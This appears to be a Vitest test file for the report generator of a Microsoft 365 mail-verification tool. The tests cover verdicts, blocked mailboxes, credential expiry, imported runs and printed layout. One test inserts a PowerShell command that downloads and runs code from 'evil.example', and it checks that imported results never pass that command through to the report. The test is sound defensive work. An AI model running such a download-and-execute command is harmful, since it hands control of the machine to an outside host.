/** A reader who was not there must see who was let in, what is only too early, and how each thing is known. */
import { describe, expect, test } from 'vitest'
import { daysUntil } from '../../../src/domain/expiry/days.ts'
import type { ReportInput } from '../../../src/domain/report/build-report.ts'
import type { Probe } from '../../../src/domain/run/run.schema.ts'
import { reportHtml } from '../../../src/documents/report/report-html.ts'
import { verdictCounts, type ReportDocument } from '../../../src/documents/report/report-document.ts'
import { en } from '../../../src/words/en.ts'
import { recipeOf } from '../domain/recipe/recipes.ts'
import { eap } from '../../kit/assets.ts'
import {
  checklistOf,
  contosoMailbox,
  contosoProbe,
  contosoRun,
  contosoSetup,
  now,
  recordOf,
  uuid,
} from '../../kit/contoso.ts'
import { csvOf, htmlOf, jsonOf, sampleReport, verdictText } from '../../kit/report.ts'

const outside = contosoMailbox(9, {
  address: 'payroll@contoso.example',
  purpose: 'outside',
  authorisation: null,
})
const negative = (changes: Partial<Probe>) =>
  contosoProbe(9, {
    check: 'outside',
    transport: 'graph-app',
    from: outside.address,
    mailbox: outside.address,
    expected: 'refused',
    outcome: 'refused',
    receipt: 'none',
    seenFrom: null,
    seenSender: null,
    ...changes,
  })
const reportOf = (...probes: Probe[]) =>
  sampleReport({ input: { mailboxes: [contosoMailbox(1), outside], probes: [contosoProbe(1), ...probes] } })

describe('mailboxes that must be kept out', () => {
  test('a refusal that came is said in the summary and is green', () => {
    const report = reportOf(negative({}))
    expect(report.verdict).toBe('proven')
    expect(report.sentences[1]).toContain('Microsoft 365 refused it')
    expect(verdictText(report)[0]).toBe('Proven: 2 of 2 attempts ended as planned')
    expect(htmlOf(report)).toContain('<span class="good">✓ refused, as it should be</span>')
  })

  test('a refusal that did not come is the loudest line of the report, before everything that failed otherwise', () => {
    const failed = contosoProbe(1, { outcome: 'failed', receipt: 'none', stage: 'connect', reply: 'timeout' })
    const report = sampleReport({
      input: {
        mailboxes: [contosoMailbox(1), outside],
        probes: [failed, negative({ outcome: 'accepted', receipt: 'received' })],
      },
    })
    const html = htmlOf(report)
    expect(report.verdict).toBe('not-proven')
    expect(report.sentences[1]).toMatch(/^DANGER: 1 mailbox that must be blocked got in/)
    expect(html.indexOf('DANGER')).toBeLessThan(html.indexOf('class="counts"'))
    expect(html.indexOf('payroll@contoso.example got in')).toBeLessThan(html.indexOf('timeout'))
  })

  test('an attempt that got no answer proves nothing about who is kept out', () => {
    const report = reportOf(negative({ outcome: 'failed', reply: 'ECONNRESET', stage: 'connect' }))
    expect(report.verdict).toBe('not-proven')
    expect(report.sentences[1]).toContain('got no answer, so it is not proven that it is blocked')
  })
})

describe('what the recipe asks for and nobody tried', () => {
  const recipe = eap()
  const wantsRefusal = {
    ...recipe,
    verification: {
      ...recipe.verification,
      probes: [
        ...recipe.verification.probes,
        {
          id: 'outside',
          kind: 'graph-app',
          mailbox: 'outside-scope',
          expected: 'refused',
          why: 'Others are kept out.',
        } as const,
      ],
    },
  }

  test('without a mailbox that has to refuse, good sends alone are no proof, and the report says what is missing', () => {
    const report = sampleReport({
      input: { recipe: wantsRefusal, mailboxes: [contosoMailbox(1)], probes: [contosoProbe(1)] },
    })
    expect(report).toMatchObject({ verdict: 'not-proven', summary: { unexpected: 0 } })
    expect(report.sentences).toEqual([
      expect.stringMatching(
        /sent 1 test message .* and it arrived, but not everything that was planned was tried/,
      ),
      'It is not proven that the application is limited to its mailboxes: no blocked mailbox was tried.',
      'Next: try what is listed under “What was not tried”.',
    ])
    expect(htmlOf(report)).toContain(
      '<h2>What was not tried (1)</h2><ul><li>No blocked mailbox is listed: the proof that the application is limited needs one.</li></ul>',
    )
  })

  test('the same mailbox tried another way does not stand for the attempt that is missing', () => {
    const input = { recipe: wantsRefusal, mailboxes: [contosoMailbox(1), outside] }
    const half = sampleReport({ input: { ...input, probes: [contosoProbe(1)] } })
    expect(half.notTried).toEqual([
      'Microsoft Graph, as the application, must be refused: not tried for 1 mailbox (payroll@contoso.example).',
    ])
    expect(sampleReport({ input: { ...input, probes: [contosoProbe(1), negative({})] } })).toMatchObject({
      verdict: 'proven',
      notTried: [],
    })
  })

  test('a failure in an earlier run from a mailbox that was taken off the list since does not count any more', () => {
    const gone = contosoProbe(2, { runId: uuid(77), outcome: 'refused', receipt: 'none' })
    const report = sampleReport({
      input: { mailboxes: [contosoMailbox(1)], probes: [contosoProbe(1), gone] },
    })
    expect(report).toMatchObject({ verdict: 'proven', summary: { planned: 1 } })
  })
})

test('a manager reads whole English words', () => {
  expect(sampleReport().sentences[0]).toContain('from all 25 addresses: each test message')
})

describe('what the recipient sees, and how it is known', () => {
  test('the sender in words, and what the receiving side checked', () => {
    const html = htmlOf(
      reportOf(
        contosoProbe(2, {
          seenFrom: 'orders@contoso.example',
          seenSender: 'grace@contoso.example',
          receiptBy: 'trace',
          authentication: { spf: 'pass', dkim: 'none', dmarc: null },
        }),
      ),
    )
    expect(html).toContain('sent by grace@contoso.example on behalf of orders@contoso.example')
    expect(html).toContain('SPF pass, DKIM none<')
    expect(html).toContain('found in the message trace')
    expect(html).toContain('sent as mailbox1@contoso.example')
  })

  test('a message that came back shows status and reason', () => {
    const html = htmlOf(
      reportOf(
        contosoProbe(2, {
          receipt: 'returned',
          returned: { at: '2026-11-21T13:00:30.000Z', status: '5.1.10', text: 'Recipient not found' },
        }),
      ),
    )
    expect(html).toContain('accepted, but came back as undeliverable')
    expect(html).toContain('5.1.10')
    expect(html).toContain('Recipient not found')
  })

  test('a folder that was only read has nothing to receive, and its warning is seen', () => {
    const html = htmlOf(
      reportOf(
        contosoProbe(2, {
          transport: 'graph-read',
          receipt: 'none',
          note: 'The Inbox holds 12 messages that the product would delete.',
          warning: true,
        }),
      ),
    )
    expect(html).toContain('can be read')
    expect(html).toContain('<span class="warn">⚠ can be read, with a warning</span>')
    expect(html).toContain('<span class="sub wait">The Inbox holds 12 messages')
    expect(html).not.toContain('What did not work')
  })
})

test('what may only be too early is said to be so, with the time until it counts', () => {
  const report = reportOf(
    contosoProbe(2, {
      outcome: 'refused',
      receipt: 'none',
      tooEarly: {
        since: '2026-11-21T12:50:00.000Z',
        because: 'Send As was granted',
        until: '2026-11-21T13:50:00.000Z',
        nextAt: '2026-11-21T13:05:00.000Z',
      },
    }),
  )
  expect(report.sentences[2]).toContain('wait')
  const html = htmlOf(report)
  expect(html).toContain('This may just need time.')
  expect(html).toContain('Sat 2026-11-21 14:50')
})

const endingAt = (expiresAt: string, input: Partial<ReportInput> = {}) =>
  sampleReport({
    input: {
      ...input,
      credentials: [
        {
          id: uuid(50),
          kind: 'secret',
          hint: 'abc',
          thumbprint: null,
          expiresAt,
          addedAt: '2026-11-20T08:00:00.000Z',
          addedBy: 'jane',
          provenAt: null,
          refused: null,
        },
      ],
    },
  })

test.each([
  ['2026-11-21T23:00:00.000Z', 0],
  ['2026-11-22T01:00:00.000Z', 1],
  ['2026-12-01T01:00:00.000Z', 10],
  ['2026-11-20T23:00:00.000Z', -1],
])('the days until %s are counted as on the card and the page of expiries: %i', (at, days) => {
  expect(endingAt(at).credentials[0]?.daysLeft).toBe(days)
  expect(daysUntil(at, now)).toBe(days)
})

test('what ends is listed with its days, and a secret is known by its hint alone', () => {
  const report = endingAt('2026-12-01T13:02:00.000Z')
  expect(report.credentials[0]).toMatchObject({ hint: 'abc', daysLeft: 10 })
  expect(htmlOf(report)).toContain('expires in 10 days')
  expect(report.sentences).toHaveLength(3)
})

describe('what was changed in the tenant', () => {
  const consentRecord = (...to: ('done' | 'todo')[]) =>
    recordOf('consent', to.at(-1) ?? 'todo', {
      history: to.map((state, at) => ({
        at: `2026-11-21T10:0${at}:00.000Z`,
        who: 'j.doe',
        by: 'person',
        from: at === 0 ? 'todo' : (to[at - 1] ?? 'todo'),
        to: state,
        note: null,
      })),
    })
  const changesOf = (...records: ReturnType<typeof recordOf>[]) =>
    sampleReport({ input: { checklist: checklistOf({ records }), mailboxes: [], run: null, probes: [] } })

  test('says who reported it and that nobody verified it', () => {
    const report = changesOf(consentRecord('done'))
    expect(report.changes).toMatchObject([{ step: 'consent', known: 'told', who: 'j.doe' }])
    expect(htmlOf(report)).toContain('reported by j.doe, not verified')
  })

  test('does not list what was taken back, and lists once what was done again', () => {
    expect(changesOf(consentRecord('done', 'todo')).changes).toEqual([])
    expect(changesOf(consentRecord('done', 'todo', 'done')).changes).toHaveLength(1)
  })

  test('does not list a step in which nothing is changed, however often it was ticked off', () => {
    expect(changesOf(recordOf('sign-in-rules', 'done')).changes).toEqual([])
  })
})

describe('where the application signs in by itself', () => {
  const recipe = recipeOf('finpower-connect')
  const setup = contosoSetup({ recipeId: recipe.id, answers: {} })
  const shared = contosoMailbox(2, {
    ...{ kind: 'shared', signInAs: 'grace@contoso.example', authorisation: null },
  })
  const report = sampleReport({
    setup,
    input: {
      recipe,
      checklist: checklistOf({ setup, recipe, mailboxes: [shared] }),
      mailboxes: [shared],
      probes: [
        contosoProbe(2, {
          check: 'send',
          transport: 'graph-app',
          mailbox: 'payroll@contoso.example',
          outcome: 'failed',
        }),
      ],
    },
  })

  test('the report never says that somebody signed in', () => {
    const html = htmlOf(report)
    expect(report.peopleSignIn).toBe(false)
    expect(html).toContain('1 mailbox; the application signs in by itself')
    expect(html).toContain('shared mailbox, no sign-in needed')
    expect(html).not.toMatch(/Send As<|Signed in as|another person|not signed in/)
  })
})

test('mail that failed DMARC has arrived, and is not a plain green tick', () => {
  const html = htmlOf(
    reportOf(contosoProbe(2, { authentication: { spf: 'pass', dkim: 'none', dmarc: 'fail' } })),
  )
  expect(html).toContain('<span class="warn">⚠ received, but not authenticated; DMARC failed</span>')
})

test('a message that was accepted and lost is not explained as an unknown error of the server that took it', () => {
  const lost = contosoProbe(1, { receipt: 'missing', receivedAt: null, seenFrom: null, seenSender: null })
  const html = htmlOf(sampleReport({ input: { mailboxes: [contosoMailbox(1)], probes: [lost] } }))
  expect(html).toContain('accepted, but not seen to arrive')
  expect(html).toContain(lost.messageId.slice(1, -1))
  expect(html).not.toContain('No known error was found')
})

test('a run that began after one that is dated later says that the clock of this PC was set back', () => {
  const report = sampleReport({
    input: {
      run: contosoRun,
      probes: [contosoProbe(1)],
      clockSetBack: '2036-01-01T08:00:00.000Z',
    },
  })
  expect(htmlOf(report)).toMatch(/The clock of this PC was set back\..*2036/)
  expect(htmlOf(sampleReport({}))).not.toContain('set back')
})

describe('a run that came out of a file', () => {
  const when = '2026-11-21T12:00:00.000Z'
  const imported = sampleReport({
    input: {
      mailboxes: [contosoMailbox(1)],
      run: { ...contosoRun, importedAt: when },
      imported: new Map([[contosoRun.id, when]]),
      probes: [contosoProbe(1)],
    },
  })

  test('proves nothing, and is named as imported wherever it stands', () => {
    const html = htmlOf(imported)
    expect(imported).toMatchObject({ verdict: 'not-proven', open: [{ code: 'only-imported' }] })
    expect(verdictText(imported)[0]).toBe('Not verified here: these results were imported')
    expect(imported.sentences[0]).toContain('Another PC recorded')
    expect(imported.sentences[2]).toBe('Next: run the verification on this PC.')
    expect(html).toContain('<strong>Imported.</strong>')
    expect(html.match(/<span class="tag wait">imported<\/span>/g)?.length).toBeGreaterThanOrEqual(2)
    expect(csvOf(imported)).toContain(when)
  })

  test('brings no causes and no commands of its own', () => {
    const [probe] = sampleReport({ refused: 1 }).probes
    const [cause] = probe?.diagnosis?.candidates ?? []
    if (probe === undefined || probe.diagnosis === null || cause === undefined)
      throw new Error('the sample has a cause')
    const [remedy] = cause.remedies
    if (remedy === undefined) throw new Error('the sample has a remedy')
    const evil = { ...remedy, command: "iex (irm 'https://evil.example')" }
    const diagnosis = { ...probe.diagnosis, candidates: [{ ...cause, remedies: [evil] }] }
    const report = sampleReport({
      input: {
        run: { ...contosoRun, importedAt: when },
        imported: new Map([[contosoRun.id, when]]),
        probes: [contosoProbe(1, { outcome: 'refused', diagnosis })],
      },
    })
    expect(htmlOf(report) + jsonOf(report) + csvOf(report)).not.toContain('evil.example')
    // it was not looked into, which is not the same as “nothing was found”
    expect(htmlOf(report)).toContain('was not examined here')
    expect(htmlOf(report)).not.toContain('No known error was found')
  })
})

describe('on paper', () => {
  const many = 1_200
  const large = (outcome: (at: number) => Partial<Probe>) =>
    sampleReport({
      input: {
        mailboxes: Array.from({ length: many }, (_, at) => contosoMailbox(at + 1)),
        probes: Array.from({ length: many }, (_, at) => contosoProbe(at + 1, outcome(at))),
      },
    })
  const rows = (html: string) => html.split('<tr>').length
  const paper = (report: ReportDocument) => [...reportHtml(report, 'paper')].join('')
  const refused = { outcome: 'refused', receipt: 'none' } as const

  test('a report of some mailboxes has all the rows of the file', () => {
    const report = sampleReport({ refused: 1 })
    expect(paper(report)).toBe(htmlOf(report))
  })

  test('one of many shows each mailbox that is not as planned in full, and names all others', () => {
    const report = large((at) => (at % 400 === 0 ? refused : {}))
    const html = paper(report)
    expect(html).toContain('What did not work (3)')
    for (const at of [1, 401, 801]) expect(html).toContain(`<th scope="row"><span class="mono">mailbox${at}@`)
    expect(html).toContain('Everything as planned: 1,197 mailboxes')
    expect(html).toContain('1,197 messages more with their Message-ID')
    for (const { address } of report.mailboxes) expect(html).toContain(address)
    expect(rows(html)).toBeLessThan(100)
    expect(rows(htmlOf(report))).toBeGreaterThan(2 * many)
  })

  test('one where everything failed says how many there are that it has no room for', () => {
    const html = paper(large(() => refused))
    expect(html).toContain('What did not work (1,200)')
    expect(html).toContain('The other 200 are in this report as HTML, CSV or JSON.')
    expect(html).toContain('Not as planned either: 200 mailboxes')
  })

  test('one of a setup that was never verified names what it has no room for', () => {
    const report = sampleReport({
      input: {
        run: null,
        probes: [],
        mailboxes: Array.from({ length: many }, (_, at) => contosoMailbox(at + 1)),
      },
    })
    expect(paper(report)).toContain('Nothing was tried: 1,200 mailboxes')
  })
})

describe('a report before anything was sent', () => {
  const vendor = recipeOf('generic-vendor-app')
  const setup = contosoSetup({ recipeId: vendor.id, answers: { product: 'Billing' } })
  const mailboxes = [contosoMailbox(1)]
  const steps = checklistOf({ recipe: vendor, setup, mailboxes }).steps
  const allDone = checklistOf({
    ...{ recipe: vendor, setup, mailboxes },
    records: steps.map(({ id }) => recordOf(id, 'done')),
  })
  const before = sampleReport({
    input: { recipe: vendor, setup, mailboxes, checklist: allDone, run: null, probes: [] },
  })

  test('asks for the product’s own message where Sendproof has no credential to send with', () => {
    expect(before.verdict).toBe('not-run')
    expect(before.sentences.at(-1)).toMatch(
      /^Next: have the product send a message, and keep that message with this report/,
    )
  })

  test('asks for the run where a person has only said that it was made', () => {
    const own = sampleReport({ input: { run: null, probes: [], checklist: { ...allDone } } })
    expect(own.sentences.at(-1)).toBe('Next: run the verification on this PC.')
  })

  test('names no mail server for a product that sends through Graph', () => {
    expect(htmlOf(before)).not.toContain('STARTTLS')
    expect(htmlOf(sampleReport())).toContain('STARTTLS')
  })
})

test('what a run had not to refuse is not said to be refused', () => {
  const read = contosoProbe(2, { transport: 'graph-read', receipt: 'none' })
  const refused = contosoProbe(3, { expected: 'refused', outcome: 'refused', receipt: 'none' })
  const why = (probes: Probe[]) =>
    en.report.verdictWhy('proven', verdictCounts({ probes, imported: [], open: [] }), null)
  expect(why([contosoProbe(1), read])).toMatch(/arrive\. What must be readable was read\.$/)
  expect(why([contosoProbe(1), refused])).toMatch(/arrive\. What must be refused was refused\.$/)
})

test('who is responsible stands with the expiry dates, as somebody entered it', () => {
  const people = [{ name: 'Lee <b>', address: 'kim@contoso.com' }]
  const day = '2026-12-01T01:00:00.000Z'
  expect(htmlOf(endingAt(day, { people }))).toContain(
    'Responsible: Lee &lt;b&gt; &lt;kim@contoso.com&gt;. As entered by a person',
  )
  expect(htmlOf(endingAt(day))).not.toContain('Responsible:')
})
